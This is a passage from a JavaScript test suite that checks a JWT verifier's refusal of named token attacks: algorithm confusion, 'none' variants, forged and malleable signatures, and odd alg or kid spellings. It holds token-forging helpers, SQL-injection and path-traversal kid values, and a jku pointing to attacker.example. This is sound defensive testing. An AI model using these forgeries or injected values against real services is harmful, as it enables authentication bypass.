// Attacks on tokens, by name: RFC 8725, the RFCs' own "must be rejected", and what other libraries were broken with.
// Every vector is refused on every route by one and the same answer, byte for byte, as any other bad token: nothing
// tells an attacker how far it came. No database or bucket call is made, and nothing of the token is in the log.
// The last table holds what is unusual and still good (A2–A6): a verifier that refuses everything is safe and useless.
import assert from 'node:assert/strict';
import { constants, createHash, createPublicKey, createSign, generateKeyPairSync, sign as signWith } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { CompactEncrypt, EncryptJWT, FlattenedSign, GeneralSign, SignJWT, UnsecuredJWT } from 'jose';
import { answered } from '../support/answers.mjs';
import { INVALID_TOKEN, ROUTES } from '../support/dialects.mjs';
import { forge, HS256, luis, mac, now, part, signed } from '../support/forged.mjs';
import { pipesTo } from '../support/pipes.mjs';
import { LAYOUTS, SECRET, token } from '../support/tokens.mjs';
import { startWorker } from '../support/worker.mjs';

const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 });
const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const k256 = generateKeyPairSync('ec', { namedCurve: 'secp256k1' });
const ed = generateKeyPairSync('ed25519');
/** The keys that the worker knows, by `kid`, beside its secret; those above are an attacker's. */
const known = {
  rsa: generateKeyPairSync('rsa', { modulusLength: 2048 }),
  rsa2: generateKeyPairSync('rsa', { modulusLength: 2048 }),
  ec: generateKeyPairSync('ec', { namedCurve: 'P-256' }),
  ed: generateKeyPairSync('ed25519'),
};
const jwkOf = (pair) => pair.publicKey.export({ format: 'jwk' });

let worker, pipes, tables;
/** Each route's answer to a token that is plainly bad, to a header without one, and the log's. */
const usual = { bad: [], missing: [] };
const sent = new Set();

const changing = new Set(['date', 'x-request-id']);
/** All of an answer but what differs from one to the next. */
const shape = ({ status, entries, text, requestId }) => ({
  status,
  text,
  headers: entries.filter(([name]) => !changing.has(name)),
  idIsNew: /^[0-9a-f]{32}$/.test(requestId),
});
const lineShape = ({ request_id, duration_ms, ...line }) => ({
  ...line,
  types: [typeof request_id, typeof duration_ms],
});

before(async () => {
  worker = await startWorker({
    vars: { JWT_JWKS: JSON.stringify({ keys: Object.entries(known).map(([kid, pair]) => ({ ...jwkOf(pair), kid })) }) },
  });
  pipes = pipesTo(worker.url);
  for (const route of ROUTES) {
    for (const [kind, headers, body, challenge] of [
      ['bad', { authorization: 'Bearer x.y.z' }, route.says.badToken(), INVALID_TOKEN],
      ['missing', {}, route.says.noToken(), 'Bearer'],
    ]) {
      const reply = await pipes.put(route.path(), { json: route.good, headers });
      const line = await answered(worker, reply, 401, body, { d1: 0, r2: [0, 0], challenge });
      usual[kind].push({ reply: shape(reply), line: lineShape(line) });
    }
  }
  tables = await worker.dump();
});
after(() => {
  pipes?.close();
  return worker?.stop();
});

const everywhere = (options) =>
  Promise.all(ROUTES.map(({ path, good }) => pipes.put(path(), { json: good, ...options })));
const withAuthorization = (authorization, vars) => everywhere({ vars, headers: { authorization } });

/** Checks that a request is answered, and logged, on every route just as any other of its kind. */
async function refusedAsUsual(options, kind = 'bad') {
  sent.add(options.headers?.authorization ?? options.lines.join(' '));
  const replies = await everywhere(options);
  same(
    replies.map(shape),
    usual[kind].map(({ reply }) => reply),
  );
  const lines = await Promise.all(replies.map((reply) => worker.logOf(reply)));
  same(
    lines.map(lineShape),
    usual[kind].map(({ line }) => line),
  );
}
/** Much faster than deepEqual, where nothing differs. */
const same = (actual, expected) =>
  JSON.stringify(actual) === JSON.stringify(expected) || assert.deepEqual(actual, expected);
const refusesToken = async (bearer, { vars } = {}) =>
  refusedAsUsual({ vars, headers: { authorization: `Bearer ${bearer}` } });

/** Every route must let the header in as account 6, with one database call. */
async function letsIn(authorization, vars) {
  for (const reply of await withAuthorization(authorization, vars)) {
    const line = await worker.logOf(reply);
    assert.deepEqual(
      [reply.status, reply.headers.get('www-authenticate'), reply.d1Calls, line.account],
      [200, null, 1, 6],
    );
  }
}

const pemOf = (pair, type = 'spki') => pair.publicKey.export({ format: 'pem', type });
const derOf = (pair) => pair.publicKey.export({ format: 'der', type: 'spki' });
/** OpenSSH's one-line public key. */
function ssh(type, ...fields) {
  const counted = (field) => Buffer.concat([Buffer.from([0, 0, field.length >> 8, field.length & 255]), field]);
  return `${type} ${Buffer.concat([Buffer.from(type), ...fields].map(counted)).toString('base64')}`;
}
const raw64 = (text) => Buffer.from(text, 'base64url');
const byLibrary = (alg, { privateKey }, header = {}) =>
  new SignJWT(luis()).setProtectedHeader({ alg, typ: 'JWT', ...header }).sign(privateKey);
const named = (list, of) => Object.fromEntries(list.map((value) => of(value)));
/** A payload of raw values: JSON texts, which need not be JSON; undefined leaves the claim out. */
const claims = (over = {}) =>
  `{${Object.entries({ sub: '"6"', iat: now() - 5, exp: now() + 3600, ...over })
    .filter(([, text]) => text !== undefined)
    .map(([name, text]) => `"${name}":${text}`)
    .join(',')}}`;
const withClaims = (over) => forge(HS256, claims(over));
const withHeader = (over, options) => forge({ ...HS256, ...over }, luis(), options);
const OTHER = 'another-secret-of-more-than-32-bytes';
const latin1 = (text) => Buffer.from(text).toString('latin1');

/** Another text of base64url that decodes to the same bytes where the decoder does not look at the bits left over. */
const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
const leftover = (text, by = 1) => {
  assert.notEqual(text.length % 4, 0, 'there are no bits left over');
  const last = ALPHABET.indexOf(text.at(-1));
  return text.slice(0, -1) + ALPHABET[last ^ by];
};
/** A value whose JSON leaves bits over in base64. */
const odd = (value) =>
  ((text) => (Buffer.byteLength(text) % 3 ? text : `${text} `))(
    typeof value === 'string' ? value : JSON.stringify(value),
  );
/** A token whose signature holds both characters that the two alphabets of base64 differ in. */
const dashed = () => {
  for (let jti = 0; ; jti++) {
    const made = forge(HS256, { ...luis(), jti });
    if (/-/.test(made.split('.')[2]) && /_/.test(made.split('.')[2])) return made;
  }
};
const resigned = (of, options) => ((text) => signed(text, options))(of(part(odd(HS256)), part(odd(luis()))));
const padded = (text) => text + '='.repeat(4 - (text.length % 4));

/** How the owner of a key signs a text, by each algorithm. */
const PSS = { padding: constants.RSA_PKCS1_PSS_PADDING, saltLength: 32 };
const SIGNS = {
  RS256: (text, pair) => signWith('sha256', text, pair.privateKey),
  RS384: (text, pair) => signWith('sha384', text, pair.privateKey),
  RS512: (text, pair) => signWith('sha512', text, pair.privateKey),
  RS1: (text, pair) => signWith('sha1', text, pair.privateKey),
  PS256: (text, pair) => signWith('sha256', text, { key: pair.privateKey, ...PSS }),
  ES256: (text, pair) => signWith('sha256', text, { key: pair.privateKey, dsaEncoding: 'ieee-p1363' }),
  ES384: (text, pair) => signWith('sha384', text, { key: pair.privateKey, dsaEncoding: 'ieee-p1363' }),
  EdDSA: (text, pair) => signWith(null, text, pair.privateKey),
};
/**
 * A token of this header, signed by the owner of the key, whatever the header says; `change` is done to the signature.
 */
function owned(pair, by, header = {}, change = (signature) => signature, payload = luis()) {
  const text = `${part({ alg: by, typ: 'JWT', ...header })}.${part(payload)}`;
  return `${text}.${Buffer.from(change(SIGNS[by](Buffer.from(text), pair), Buffer.from(text))).toString('base64url')}`;
}
const OWN = { rsa: 'RS256', ec: 'ES256', ed: 'EdDSA' };
const ORDER = {
  ec: 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n,
  ed: 2n ** 252n + 27742317777372353535851937790883648493n,
};
const toInteger = (bytes) => BigInt(`0x${Buffer.from(bytes).toString('hex')}`);
const toBytes = (integer, length) => Buffer.from(integer.toString(16).padStart(length * 2, '0'), 'hex');
const half = (signature, at) => signature.subarray(at * 32, at * 32 + 32);
/** An ECDSA signature's two numbers, changed. */
const pairOf = (of) => (signature) =>
  Buffer.concat(
    of(toInteger(half(signature, 0)), toInteger(half(signature, 1))).map((integer) => toBytes(integer, 32)),
  );

const ATTACKS = {
  'public keys: another algorithm than the key is for (RFC 8725 3.1)': {
    ...Object.fromEntries(
      Object.entries(OWN).flatMap(([kid, by]) =>
        [
          'RS256',
          'RS384',
          'RS512',
          'PS256',
          'ES256',
          'ES384',
          'ES512',
          'ES256K',
          'EdDSA',
          'Ed25519',
          'Ed448',
          'HS256',
          'HS512',
          'none',
          'None',
          '',
          'rs256',
          'es256',
          'eddsa',
          'EDDSA',
          'RS256 ',
          'ES256\0',
        ]
          .filter((alg) => alg !== by)
          .map((alg) => [
            `${JSON.stringify(alg)} in name, ${by} by the key ${kid} in truth`,
            () => owned(known[kid], by, { alg, kid }),
          ]),
      ),
    ),
    ...Object.fromEntries(
      Object.entries(OWN).flatMap(([kid, by]) =>
        Object.keys(OWN)
          .filter((other) => other !== kid)
          .flatMap((other) => [
            [`the kid of ${other}, ${by} by the key ${kid}`, () => owned(known[kid], by, { kid: other })],
            [
              `the kid and the name of ${other}, ${by} by the key ${kid}`,
              () => owned(known[kid], by, { kid: other, alg: OWN[other] }),
            ],
          ]),
      ),
    ),
    ...named(['RS384', 'RS512', 'RS1', 'PS256'], (by) => [
      `${by} by the key rsa`,
      () => owned(known.rsa, by, { kid: 'rsa' }),
    ]),
    ...named(['RS384', 'RS512', 'RS1', 'PS256'], (by) => [
      `${by} by the key rsa, RS256 in name`,
      () => owned(known.rsa, by, { kid: 'rsa', alg: 'RS256' }),
    ]),
    'ES256 in name, ES384 by the key ec': () => owned(known.ec, 'ES384', { kid: 'ec', alg: 'ES256' }),
    ...Object.fromEntries(
      Object.entries(OWN).flatMap(([kid]) =>
        Object.entries({
          'as PEM': pemOf(known[kid]),
          'as PEM without its last line break': pemOf(known[kid]).trim(),
          'as DER': derOf(known[kid]),
          'as JWK': JSON.stringify(jwkOf(known[kid])),
          'as JWK with its kid': JSON.stringify({ ...jwkOf(known[kid]), kid }),
          'in bytes': raw64(jwkOf(known[kid]).n ?? jwkOf(known[kid]).x),
          'in base64url': jwkOf(known[kid]).n ?? jwkOf(known[kid]).x,
          'by its kid': kid,
        }).flatMap(([spelt, secret]) => [
          [`HS256 keyed with the public key ${kid} ${spelt}`, () => forge({ ...HS256, kid }, luis(), { secret })],
          [
            `${OWN[kid]} in name, HS256 keyed with the public key ${kid} ${spelt}`,
            () => forge({ alg: OWN[kid], typ: 'JWT', kid }, luis(), { secret }),
          ],
        ]),
      ),
    ),
    ...named(Object.entries(OWN), ([kid, alg]) => [
      `${alg} with the kid ${kid}, HS256 with the right secret in truth`,
      () => forge({ alg, typ: 'JWT', kid }, luis()),
    ]),
    ...named(Object.entries(OWN), ([kid, alg]) => [
      `${alg} with the kid ${kid}, unsigned`,
      () => forge({ alg, typ: 'JWT', kid }, luis(), { signature: '' }),
    ]),
    ...named(Object.keys(OWN), (kid) => [
      `none with the kid ${kid}`,
      () => forge({ alg: 'none', typ: 'JWT', kid }, luis(), { signature: '' }),
    ]),
  },

  'public keys: which one': {
    ...Object.fromEntries(
      Object.entries({ rsa, ec, ed }).flatMap(([kid, pair]) => [
        [`${OWN[kid]} by another key, with the kid ${kid}`, () => owned(pair, OWN[kid], { kid })],
        [`${OWN[kid]} by another key, without a kid`, () => owned(pair, OWN[kid])],
        [
          `${OWN[kid]} by another key that it brings along as jwk, with the kid ${kid}`,
          () => owned(pair, OWN[kid], { kid, jwk: { ...jwkOf(pair), kid } }),
        ],
        [
          `${OWN[kid]} by another key at its jku, with the kid ${kid}`,
          () => owned(pair, OWN[kid], { kid, jku: 'https://attacker.example/keys' }),
        ],
        [
          `${OWN[kid]} by another key in its x5c, with the kid ${kid}`,
          () => owned(pair, OWN[kid], { kid, x5c: [derOf(pair).toString('base64')] }),
        ],
        ...[
          '',
          `${kid} `,
          ` ${kid}`,
          kid.toUpperCase(),
          `${kid}\0`,
          '*',
          '0',
          '../keys',
          "x' OR '1'='1",
          '__proto__',
          kid.normalize('NFD') + '\u0301',
        ].map((spelt) => [
          `${OWN[kid]} by the key ${kid}, the kid ${JSON.stringify(spelt)}`,
          () => owned(known[kid], OWN[kid], { kid: spelt }),
        ]),
        ...[0, true, [kid], { kid }].map((spelt) => [
          `${OWN[kid]} by the key ${kid}, the kid as ${JSON.stringify(spelt)}`,
          () => owned(known[kid], OWN[kid], { kid: spelt }),
        ]),
        [
          `${OWN[kid]} by the key ${kid}, two kids`,
          () =>
            ((text) => `${text}.${SIGNS[OWN[kid]](Buffer.from(text), known[kid]).toString('base64url')}`)(
              `${part(`{"alg":"${OWN[kid]}","kid":"x","kid":"${kid}"}`)}.${part(luis())}`,
            ),
        ],
      ]),
    ),
    'RS256 by one of two keys, without a kid': () => owned(known.rsa, 'RS256'),
    'RS256 by the other of two keys, without a kid': () => owned(known.rsa2, 'RS256'),
    'RS256 by one of two keys, with the kid of the other': () => owned(known.rsa, 'RS256', { kid: 'rsa2' }),
  },

  'public keys: signatures (RFC 7518 3.4, RFC 8032 5.1.7, CVE-2022-21449, CVE-2022-24884, CVE-2020-36843)': {
    ...Object.fromEntries(
      Object.entries(OWN).flatMap(([kid, by]) =>
        Object.entries({
          'without its last byte': (bytes) => bytes.subarray(0, -1),
          'without its first byte': (bytes) => bytes.subarray(1),
          'with a byte of 0 behind it': (bytes) => Buffer.concat([bytes, Buffer.alloc(1)]),
          'with a byte of 0 before it': (bytes) => Buffer.concat([Buffer.alloc(1), bytes]),
          twice: (bytes) => Buffer.concat([bytes, bytes]),
          reversed: (bytes) => Buffer.from(bytes).reverse(),
          'all zero': (bytes) => Buffer.alloc(bytes.length),
          'all ones': (bytes) => Buffer.alloc(bytes.length, 255),
          'of one': (bytes) => toBytes(1n, bytes.length),
          empty: () => '',
          'with its first bit changed': (bytes) => {
            bytes[0] ^= 128;
            return bytes;
          },
          'with its last bit changed': (bytes) => {
            bytes[bytes.length - 1] ^= 1;
            return bytes;
          },
          'with a bit in the middle changed': (bytes) => {
            bytes[bytes.length / 2] ^= 1;
            return bytes;
          },
          'as hexadecimal digits': (bytes) => bytes.toString('hex'),
          'over the header alone': (_, text) => SIGNS[by](text.subarray(0, text.indexOf('.')), known[kid]),
          'over an empty text': () => SIGNS[by](Buffer.alloc(0), known[kid]),
          'over the text and a line break': (_, text) =>
            SIGNS[by](Buffer.concat([text, Buffer.from('\n')]), known[kid]),
          'over a hash of the text': (_, text) => SIGNS[by](createHash('sha256').update(text).digest(), known[kid]),
        }).map(([name, change]) => [`${by}: ${name}`, () => owned(known[kid], by, { kid }, change)]),
      ),
    ),
    'RS256: the number that the padding would be': () =>
      owned(known.rsa, 'RS256', { kid: 'rsa' }, (_, text) =>
        Buffer.concat([
          Buffer.from([0, 1]),
          Buffer.alloc(202, 255),
          Buffer.from('003031300d060960864801650304020105000420', 'hex'),
          createHash('sha256').update(text).digest(),
        ]),
      ),
    'RS256: the modulus added': () =>
      owned(known.rsa, 'RS256', { kid: 'rsa' }, (bytes) =>
        ((sum) => toBytes(sum, sum >> 2048n ? 257 : 256))(toInteger(bytes) + toInteger(raw64(jwkOf(known.rsa).n))),
      ),
    'RS256: the modulus': () => owned(known.rsa, 'RS256', { kid: 'rsa' }, () => raw64(jwkOf(known.rsa).n)),
    'ES256: as DER': () =>
      owned(known.ec, 'ES256', { kid: 'ec' }, (_, text) => signWith('sha256', text, known.ec.privateKey)),
    'ES256: as DER, cut to 64 bytes': () =>
      owned(known.ec, 'ES256', { kid: 'ec' }, (_, text) =>
        signWith('sha256', text, known.ec.privateKey).subarray(0, 64),
      ),
    ...named(
      Object.entries({
        'r zero': (r, s) => [0n, s],
        's zero': (r) => [r, 0n],
        'both one': () => [1n, 1n],
        'r the order': (r, s) => [ORDER.ec, s],
        's the order': (r) => [r, ORDER.ec],
        'both the order': () => [ORDER.ec, ORDER.ec],
        exchanged: (r, s) => [s, r],
        'r negated': (r, s) => [ORDER.ec - r, s],
      }),
      ([name, of]) => [`ES256: ${name}`, () => owned(known.ec, 'ES256', { kid: 'ec' }, pairOf(of))],
    ),
    'EdDSA: S with the order added': () =>
      owned(known.ed, 'EdDSA', { kid: 'ed' }, (bytes) =>
        Buffer.concat([
          half(bytes, 0),
          toBytes(toInteger(Buffer.from(half(bytes, 1)).reverse()) + ORDER.ed, 32).reverse(),
        ]),
      ),
    'EdDSA: S with eight times the order added': () =>
      owned(known.ed, 'EdDSA', { kid: 'ed' }, (bytes) =>
        Buffer.concat([
          half(bytes, 0),
          toBytes(toInteger(Buffer.from(half(bytes, 1)).reverse()) + 8n * ORDER.ed, 32).reverse(),
        ]),
      ),
    'EdDSA: R the neutral point, S zero': () =>
      owned(known.ed, 'EdDSA', { kid: 'ed' }, () => Buffer.concat([Buffer.from([1]), Buffer.alloc(63)])),
    'EdDSA: R of order 8': () =>
      owned(known.ed, 'EdDSA', { kid: 'ed' }, (bytes) =>
        Buffer.concat([
          Buffer.from('26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05', 'hex'),
          half(bytes, 1),
        ]),
      ),
  },

  'public keys: all else holds for them too': {
    ...Object.fromEntries(
      Object.entries(OWN).flatMap(([kid, by]) =>
        Object.entries({
          crit: [{ crit: ['exp'] }],
          'b64 false': [{ b64: false, crit: ['b64'] }],
          'typ of another token': [{ typ: 'at+jwt' }],
          'typ null': [{ typ: null }],
          compressed: [{ cty: 'JWT' }],
          expired: [{}, () => ({ ...luis(), exp: now() - 61 })],
          'never expiring': [{}, () => ({ sub: '6' })],
          'exp as text': [{}, () => ({ ...luis(), exp: String(now() + 3600) })],
          'exp with a fraction': [{}, () => ({ ...luis(), exp: now() + 60.5 })],
          'issued later': [{}, () => ({ ...luis(), iat: now() + 120 })],
          'not yet valid': [{}, () => ({ ...luis(), nbf: now() + 120 })],
          'a refresh token': [{}, () => ({ ...luis(), token_type: 'refresh' })],
          'no subject': [{}, () => ({ exp: now() + 3600 })],
          'subjects that differ': [{}, () => ({ ...luis(), user_id: 5 })],
          'claims twice': [{}, () => `{"sub":"5","sub":"6","exp":${now() + 3600}}`],
          'claims that are no object': [{}, () => '"6"'],
          'no claims': [{}, () => ''],
          'more than 8 KiB': [{}, () => ({ ...luis(), pad: 'A'.repeat(8192) })],
        }).map(([name, [header, payload]]) => [
          `${by}: ${name}`,
          () => owned(known[kid], by, { kid, ...header }, undefined, payload?.()),
        ]),
      ),
    ),
  },

  'algorithm confusion (RFC 8725 3.1, CVE-2015-9235, CVE-2016-10555, CVE-2016-5431)': {
    ...named(['RS256', 'RS384', 'RS512', 'PS256', 'PS512'], (alg) => [
      `${alg} by a key of its own`,
      () => byLibrary(alg, rsa),
    ]),
    'ES256 by a key of its own': () => byLibrary('ES256', ec),
    'EdDSA by a key of its own': () => byLibrary('EdDSA', ed),
    'Ed25519 by a key of its own': () => byLibrary('Ed25519', ed),
    'ES256K by a key of its own': () => {
      const text = `${part({ alg: 'ES256K', typ: 'JWT' })}.${part(luis())}`;
      const signature = createSign('sha256').update(text).sign({ key: k256.privateKey, dsaEncoding: 'ieee-p1363' });
      return `${text}.${signature.toString('base64url')}`;
    },
    ...named(
      [
        'RS256',
        'RS384',
        'RS512',
        'PS256',
        'PS384',
        'PS512',
        'ES256',
        'ES256K',
        'ES384',
        'ES512',
        'EdDSA',
        'Ed25519',
        'ML-DSA-44',
        'HS1',
        'HS224',
        'HS384',
        'HS512',
        'HS3-256',
        'HMAC',
        'SHA256',
        'dir',
        'A256KW',
        'RSA-OAEP',
        'PBES2-HS256+A128KW',
        'A256GCM',
      ],
      (alg) => [`${alg} in name, HS256 with the right secret in truth`, () => forge({ alg, typ: 'JWT' }, luis())],
    ),
    'HS256 in name, an RSA signature in truth': () =>
      ((text) => `${text}.${signWith('sha256', Buffer.from(text), rsa.privateKey).toString('base64url')}`)(
        `${part(HS256)}.${part(luis())}`,
      ),
    'HS256 in name, an Ed25519 signature in truth': () =>
      ((text) => `${text}.${signWith(null, Buffer.from(text), ed.privateKey).toString('base64url')}`)(
        `${part(HS256)}.${part(luis())}`,
      ),
    'HS384 with the right secret': () => forge({ alg: 'HS384', typ: 'JWT' }, luis(), { hash: 'sha384' }),
    'HS512 with the right secret': () => forge({ alg: 'HS512', typ: 'JWT' }, luis(), { hash: 'sha512' }),
    'HS256 in name, SHA-512 cut to 256 bits in truth': () =>
      ((text) => `${text}.${mac(text, SECRET, 'sha512').subarray(0, 32).toString('base64url')}`)(
        `${part(HS256)}.${part(luis())}`,
      ),
    'HS256 in name, SHA-512/256 in truth': () => forge(HS256, luis(), { hash: 'sha512-256' }),
    'HS256 in name, SHA3-256 in truth': () => forge(HS256, luis(), { hash: 'sha3-256' }),
    'a bare SHA-256 over secret and text': () =>
      ((text) => `${text}.${createHash('sha256').update(SECRET).update(text).digest('base64url')}`)(
        `${part(HS256)}.${part(luis())}`,
      ),
    'a bare SHA-256 over the text': () =>
      ((text) => `${text}.${createHash('sha256').update(text).digest('base64url')}`)(`${part(HS256)}.${part(luis())}`),
    'HS256 keyed with an RSA public key as PEM': () => forge(HS256, luis(), { secret: pemOf(known.rsa) }),
    'HS256 keyed with the PEM without its last line break': () =>
      forge(HS256, luis(), { secret: pemOf(known.rsa).trim() }),
    'HS256 keyed with an RSA public key as PKCS#1 PEM (CVE-2017-11424)': () =>
      forge(HS256, luis(), { secret: pemOf(known.rsa, 'pkcs1') }),
    'HS256 keyed with an RSA public key as DER': () => forge(HS256, luis(), { secret: derOf(known.rsa) }),
    'HS256 keyed with an RSA public key as JWK': () =>
      forge(HS256, luis(), { secret: JSON.stringify(jwkOf(known.rsa)) }),
    'HS256 keyed with the modulus': () => forge(HS256, luis(), { secret: raw64(jwkOf(known.rsa).n) }),
    'HS256 keyed with an EC public key as PEM': () => forge(HS256, luis(), { secret: pemOf(known.ec) }),
    'HS256 keyed with an EC public key as JWK': () => forge(HS256, luis(), { secret: JSON.stringify(jwkOf(known.ec)) }),
    'HS256 keyed with an Ed25519 public key': () => forge(HS256, luis(), { secret: raw64(jwkOf(known.ed).x) }),
    'HS256 keyed with an OpenSSH Ed25519 key (CVE-2022-29217)': () =>
      forge(HS256, luis(), { secret: ssh('ssh-ed25519', raw64(jwkOf(known.ed).x)) }),
    'HS256 keyed with an OpenSSH ECDSA key (CVE-2024-33663)': () =>
      forge(HS256, luis(), {
        secret: ssh('ecdsa-sha2-nistp256', Buffer.from('nistp256'), derOf(known.ec).subarray(-65)),
      }),
    'an algorithm left out': () => forge({ typ: 'JWT' }, luis()),
    'an empty header object': () => forge({}, luis()),
  },

  'spellings of alg': {
    ...named([null, true, 0, 256, ['HS256'], { alg: 'HS256' }, [], {}], (alg) => [
      `alg as ${JSON.stringify(alg)}`,
      () => forge({ alg, typ: 'JWT' }, luis()),
    ]),
    ...named(
      [
        'hs256',
        'Hs256',
        'hS256',
        'HS256 ',
        ' HS256',
        'HS256\t',
        'HS256\n',
        'HS256\0',
        '\0HS256',
        'HS256\0none',
        'HS256,none',
        'HS-256',
        'HS 256',
        'HS0256',
        'HS256.',
        'HMACSHA256',
        'HmacSHA256',
        'HMAC-SHA-256',
        'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256',
        'ＨＳ２５６',
        'HЅ256',
        'ΗS256',
        'HS２５６',
        'HS٢٥٦',
        'HS\u00ad256',
        'HS\u200b256',
        '\ufeffHS256',
        '\u202eHS256',
        'H\u017f256',
        'HS256\u0301',
        'ℋS256',
        'HS²56',
        '__proto__',
        'constructor',
        'toString',
        '../HS256',
        "HS256' OR '1'='1",
      ],
      (alg) => [`alg ${JSON.stringify(alg)}`, () => forge({ alg, typ: 'JWT' }, luis())],
    ),
    'the member in capitals': () => forge({ ALG: 'HS256', typ: 'JWT' }, luis()),
    'the member with white space': () => forge({ 'alg ': 'HS256', typ: 'JWT' }, luis()),
    'the member in another object': () => forge({ header: { alg: 'HS256' }, typ: 'JWT' }, luis()),
    'the member behind a prototype': () => forge('{"__proto__":{"alg":"HS256"},"typ":"JWT"}', luis()),
    'the member in the payload': () => forge({ typ: 'JWT' }, { ...luis(), alg: 'HS256' }),
  },

  'none (RFC 8725 3.1, CVE-2015-2951, CVE-2022-23540)': {
    'as a library makes it': () => new UnsecuredJWT(luis()).encode(),
    ...Object.fromEntries(
      [
        'none',
        'None',
        'NONE',
        'nONE',
        'NoNe',
        'nOnE',
        'nonE',
        'none ',
        ' none',
        'none\0',
        'none\n',
        'n\u200bone',
        'ｎｏｎｅ',
        'nοne',
        'no\u0301ne',
        'null',
        'undefined',
        'nil',
        'plain',
        'NULL',
        'off',
        '',
        ' ',
      ].flatMap((alg) => [
        [
          `alg ${JSON.stringify(alg)} with an empty signature`,
          () => forge({ alg, typ: 'JWT' }, luis(), { signature: '' }),
        ],
        [`alg ${JSON.stringify(alg)} with HS256's signature`, () => forge({ alg, typ: 'JWT' }, luis())],
      ]),
    ),
    ...named(['none', 'None', 'NONE', ''], (alg) => [
      `alg ${JSON.stringify(alg)} with a garbage signature`,
      () => forge({ alg, typ: 'JWT' }, luis(), { signature: 'AAAA' }),
    ]),
    ...named(['none', 'None', 'NONE', ''], (alg) => [
      `alg ${JSON.stringify(alg)} with an empty key's signature`,
      () => forge({ alg, typ: 'JWT' }, luis(), { secret: '' }),
    ]),
    'alg none without the last dot': () => forge({ alg: 'none' }, luis(), { signature: '' }).slice(0, -1),
    'alg none with more dots': () => `${forge({ alg: 'none' }, luis(), { signature: '' })}..`,
    'alg none and no typ': () => forge({ alg: 'none' }, luis(), { signature: '' }),
    'alg "n\\u006fne"': () => forge('{"alg":"n\\u006fne","typ":"JWT"}', luis(), { signature: '' }),
    'none in the place of the signature': () => forge(HS256, luis(), { signature: 'none' }),
  },

  'signatures (CVE-2020-28042, CVE-2019-20933, CVE-2022-21449, CVE-2022-25898)': {
    none: () => `${part(HS256)}.${part(luis())}`,
    empty: () => forge(HS256, luis(), { signature: '' }),
    ...named([1, 2, 4, 16, 21, 22, 42], (length) => [
      `cut to ${length} characters`,
      () => ((text) => text.slice(0, text.lastIndexOf('.') + 1 + length))(forge(HS256, luis())),
    ]),
    ...named([1, 8, 16, 31], (length) => [
      `cut to ${length} bytes`,
      () =>
        ((text) => `${text}.${mac(text).subarray(0, length).toString('base64url')}`)(`${part(HS256)}.${part(luis())}`),
    ]),
    'cut at its start': () =>
      ((text) => `${text}.${mac(text).subarray(1).toString('base64url')}`)(`${part(HS256)}.${part(luis())}`),
    ...named(['A', 'AA', 'AAAA', '.', '..', '=', '%00', '#', '?'], (tail) => [
      `with ${tail} behind it`,
      () => forge(HS256, luis()) + tail,
    ]),
    'with a byte of 0 behind it': () =>
      ((text) => `${text}.${Buffer.concat([mac(text), Buffer.alloc(1)]).toString('base64url')}`)(
        `${part(HS256)}.${part(luis())}`,
      ),
    'with a byte of 0 before it': () =>
      ((text) => `${text}.${Buffer.concat([Buffer.alloc(1), mac(text)]).toString('base64url')}`)(
        `${part(HS256)}.${part(luis())}`,
      ),
    twice: () =>
      ((text) => `${text}.${Buffer.concat([mac(text), mac(text)]).toString('base64url')}`)(
        `${part(HS256)}.${part(luis())}`,
      ),
    reversed: () =>
      ((text) => `${text}.${mac(text).reverse().toString('base64url')}`)(`${part(HS256)}.${part(luis())}`),
    'with one bit changed': () =>
      ((text) => {
        const bytes = mac(text);
        bytes[31] ^= 1;
        return `${text}.${bytes.toString('base64url')}`;
      })(`${part(HS256)}.${part(luis())}`),
    'with its first bit changed': () =>
      ((text) => {
        const bytes = mac(text);
        bytes[0] ^= 128;
        return `${text}.${bytes.toString('base64url')}`;
      })(`${part(HS256)}.${part(luis())}`),
    'as hexadecimal digits': () => ((text) => `${text}.${mac(text).toString('hex')}`)(`${part(HS256)}.${part(luis())}`),
    'as hexadecimal digits in base64': () =>
      ((text) => `${text}.${part(mac(text).toString('hex'))}`)(`${part(HS256)}.${part(luis())}`),
    'in base64 twice': () =>
      ((text) => `${text}.${part(mac(text).toString('base64url'))}`)(`${part(HS256)}.${part(luis())}`),
    'all zero': () => forge(HS256, luis(), { signature: part(Buffer.alloc(32)) }),
    'all ones': () => forge(HS256, luis(), { signature: part(Buffer.alloc(32, 255)) }),
    'all zero, of 64 bytes': () => forge(HS256, luis(), { signature: part(Buffer.alloc(64)) }),
    'all zero under ES256 (psychic)': () =>
      forge({ alg: 'ES256', typ: 'JWT' }, luis(), { signature: part(Buffer.alloc(64)) }),
    'all zero under ES256 as DER (psychic)': () =>
      forge({ alg: 'ES256', typ: 'JWT' }, luis(), { signature: part(Buffer.from('3006020100020100', 'hex')) }),
    'all zero under ES384 and ES512 (psychic)': () =>
      forge({ alg: 'ES512', typ: 'JWT' }, luis(), { signature: part(Buffer.alloc(132)) }),
    'of another token': async () => forge(HS256, luis(), { signature: (await token(5)).split('.')[2] }),
    'of the same claims under another header': () =>
      forge(HS256, luis(), { signature: forge({ alg: 'HS256' }, luis()).split('.')[2] }),
    'over the header alone': () => forge(HS256, luis(), { signature: mac(part(HS256)).toString('base64url') }),
    'over the payload alone': () =>
      ((payload) => `${part(HS256)}.${payload}.${mac(payload).toString('base64url')}`)(part(luis())),
    'over both parts without the dot': () =>
      ((header, payload) => `${header}.${payload}.${mac(header + payload).toString('base64url')}`)(
        part(HS256),
        part(luis()),
      ),
    'over what the parts decode to': () =>
      ((payload) =>
        `${part(HS256)}.${part(payload)}.${mac(`${JSON.stringify(HS256)}.${payload}`).toString('base64url')}`)(
        claims(),
      ),
    'over another division of the same text': () =>
      ((header, payload, text) => `${header}.${payload}.${mac(text).toString('base64url')}`)(
        part(HS256),
        part(luis()),
        `${part(HS256)}${part(luis())}.`,
      ),
    'over an empty text': () => forge(HS256, luis(), { signature: mac('').toString('base64url') }),
    ...named(
      [
        ['an empty key', ''],
        ['one zero byte', '\0'],
        ['32 zero bytes', Buffer.alloc(32)],
        ['64 zero bytes', Buffer.alloc(64)],
        ['"secret"', 'secret'],
